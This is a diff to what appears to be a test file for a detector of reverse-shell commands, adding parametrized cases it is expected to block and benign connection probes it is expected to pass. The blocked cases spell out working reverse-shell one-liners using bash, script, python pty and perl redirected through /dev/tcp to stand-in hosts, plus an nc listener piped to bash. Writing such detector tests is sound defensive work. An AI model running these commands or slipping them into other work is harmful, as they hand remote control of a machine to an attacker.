@@ -197,6 +197,33 @@ def test_a_shell_behind_a_listener_is_a_remote_shell() -> None:
     assert next(iter(found("n" + "c -l -p 4443 | /bin/ba" + "sh", "tp-reverse-shell"))).lane is Lane.BLOCK
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "script -q /dev/null </dev/{tcp}/203.0.113.7/4444 >&0",
+        "ba" + "sh 0</dev/{tcp}/files.example.net/443 1>&0 2>&0",
+        "python3 -c 'import pty; pty.spawn(\"sh\")' </dev/{tcp}/203.0.113.7/4444 >&0",
+        "perl </dev/{tcp}/203.0.113.7/80",
+    ],
+)
+def test_a_program_that_reads_its_orders_from_a_connection_is_a_remote_shell(command: str) -> None:
+    text = f"```sh\n{command.format(tcp='tcp')}\n```"
+    assert next(iter(found(text, "tp-reverse-shell"))).lane is Lane.BLOCK
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "timeout 1 bash -c '</dev/{tcp}/localhost/5432'",
+        "cat </dev/{tcp}/time.example.org/13",
+        "sh a.sh </dev/null",
+    ],
+)
+def test_a_program_that_tries_a_connection_is_none(command: str) -> None:
+    text = f"```sh\n{command.format(tcp='tcp')}\n```"
+    assert not any(finding.lane is Lane.BLOCK for finding in found(text, "tp-reverse-shell"))
+
+
 def test_a_comment_does_not_excuse_a_line_of_a_script() -> None:
     options = {"kind": FileKind.SCRIPT, "source_type": SourceType.SCRIPT, "file": "run.sh"}
     (finding,) = found(f"{attacks.PIPE} # dangerous example", "tp-curl-pipe-bash", **options)
